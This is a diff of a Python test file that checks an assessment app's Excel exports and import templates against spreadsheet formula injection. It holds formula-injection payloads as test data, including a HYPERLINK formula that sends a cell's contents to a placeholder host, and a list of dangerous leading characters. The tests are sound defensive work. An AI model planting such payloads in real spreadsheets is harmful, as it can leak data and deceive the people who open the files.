@@ -8,7 +8,7 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from core import db, exports, registry, report_recap, results
+from core import db, exports, importer, registry, report_recap, results, sheets
 from core.db import one, rows
 from core.errors import PermissionDenied
 from core.i18n import t
@@ -45,22 +45,22 @@ def label_value(ws, label: str):
 
 @pytest.mark.parametrize("text", PAYLOADS + ["  =1+1", "\t=1", "\r=1", "\tanything", " -1", "\uff1d1+1", "-"])
 def test_text_that_could_start_a_formula_gets_a_quote(text):
-    assert exports.neutralise(text) == "'" + text
+    assert sheets.neutralise(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", ["Budi Santoso, S.E.", "", "1+1", "a=b", "Saran: -", "197303271997092874", "010",
                                    None, 0, -2, -2.5, 3.75, True])
 def test_other_values_are_left_alone(value):
-    assert exports.neutralise(value) == value
+    assert sheets.neutralise(value) == value
 
 
 def test_characters_xml_cannot_carry_are_dropped():
-    assert exports.neutralise("Bukti\x00 perilaku\x07") == "Bukti perilaku"
+    assert sheets.neutralise("Bukti\x00 perilaku\x07") == "Bukti perilaku"
 
 
 def test_openpyxl_stores_neutralised_text_as_a_string_and_numbers_as_numbers():
     ws = Workbook().active
-    exports.append(ws, [*PAYLOADS, -3, -0.5, "-3"])
+    sheets.append(ws, [*PAYLOADS, -3, -0.5, "-3"])
     cells = list(ws[1])
     assert [c.data_type for c in cells] == ["s"] * 4 + ["n", "n", "s"]
     assert [c.value for c in cells[4:]] == [-3, -0.5, "'-3"]
@@ -76,7 +76,7 @@ def test_openpyxl_stores_neutralised_text_as_a_string_and_numbers_as_numbers():
 ], ids=["plain", "forbidden-characters", "long-and-duplicate", "quotes-and-empty", "clash-with-summary"])
 def test_sheet_titles_are_valid_and_unique(names, expected):
     taken = {"ringkasan"}
-    titles = [exports.sheet_title(name, taken, "Jabatan") for name in names]
+    titles = [sheets.sheet_title(name, taken, "Jabatan") for name in names]
     assert titles == expected
     assert all(len(x) <= 31 and not set(x) & FORBIDDEN for x in titles)
 
@@ -280,3 +280,75 @@ def test_full_export_of_an_event_without_stages(demo_db, admin):
     assert [c.value for c in wb["Nilai Tahap"][1]] == ["No. Peserta", "Nama", "NIP", "Jabatan"]
     assert wb["Hasil"].max_row == 1 + len(registry.list_registrations(demo_db, PEMETAAN))
     assert label_value(wb["Catatan"], t("export.note.ratings_left_out")) == 0
+
+
+# One writer: every workbook the app can produce, filled with hostile text ---------------------------
+
+HOSTILE = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "\nLF",
+           " =1+1", "\uff1dSUM(A1)"]
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def hostile(n: int) -> str:
+    return HOSTILE[n % len(HOSTILE)] + (f" {n}" if n >= len(HOSTILE) else "")
+
+
+def make_everything_hostile(database) -> None:
+    """Names, places, evidence and narratives an officer or an imported file could supply."""
+    text_columns = {"candidates": ("name", "current_position", "current_unit"), "positions": ("name", "unit"),
+                    "stages": ("name",), "events": ("name", "venue"), "users": ("full_name",),
+                    "exercises": ("name",), "ratings": ("evidence",), "consensus": ("rationale",),
+                    "results": ("kekuatan", "area_pengembangan", "saran_pengembangan", "saran_penempatan")}
+    for table, columns in text_columns.items():
+        keys = [r[0] for r in database.execute(f"SELECT rowid FROM {table}").fetchall()]
+        for n, key in enumerate(keys):
+            values = [hostile(n) for _ in columns]
+            database.execute(f"UPDATE {table} SET {', '.join(f'{c} = ?' for c in columns)} WHERE rowid = ?",
+                             (*values, key))
+    # The consensus CHECK wants a rationale unless level = suggested: hostile text satisfies it too.
+
+
+def every_workbook(database, admin) -> dict[str, bytes]:
+    importer.template_xlsx.cache_clear()
+    stage_names = [hostile(n) for n in range(len(HOSTILE))]
+    people = [(hostile(n), "197303271997092874", hostile(n + 1)) for n in range(len(HOSTILE))]
+    return {"recap": exports.recap_xlsx(database, admin, SELEKSI),
+            "recap_pemetaan": exports.recap_xlsx(database, admin, PEMETAAN),
+            "full": exports.full_export_xlsx(database, admin, SELEKSI),
+            "candidate_template": importer.template_xlsx(),
+            "stage_template": importer.stage_template_xlsx(stage_names, people)}
+
+
+def test_no_workbook_the_app_writes_holds_a_formula_or_a_live_dangerous_cell(demo_db, admin):
+    make_everything_hostile(demo_db)
+    admin = user(demo_db, "admin")
+    checked = 0
+    for name, data in every_workbook(demo_db, admin).items():
+        for ws in load_workbook(io.BytesIO(data)).worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str):
+                        checked += 1
+                        assert not cell.value.lstrip().startswith(DANGEROUS_STARTS), (name, ws.title, cell.coordinate)
+    assert checked > 500
+
+
+def test_the_stage_template_neutralises_names_and_still_reads_back(demo_db):
+    names = ['=HYPERLINK("http://x","y")', "Wawancara"]
+    data = importer.stage_template_xlsx(names, [("001", "197303271997092874", "=1+1")])
+    ws = load_workbook(io.BytesIO(data))["Nilai Tahap"]
+    assert ws["D1"].value == "'" + names[0] and ws["D1"].data_type == "s"
+    assert ws["C2"].value == "'=1+1"
+    header = [c.value for c in ws[1]]
+    found = importer.map_headers(header, importer.stage_columns(names))
+    assert found[importer.STAGE_KEY + names[0]] == 3
+
+
+def test_defuse_catches_a_formula_a_builder_wrote_directly():
+    wb = Workbook()
+    wb.active["A1"] = "=1+1"
+    wb.active["B1"] = "-x"
+    assert wb.active["A1"].data_type == "f"
+    ws = load_workbook(io.BytesIO(sheets.workbook_bytes(wb))).active
+    assert (ws["A1"].value, ws["A1"].data_type, ws["B1"].value) == ("'=1+1", "s", "'-x")
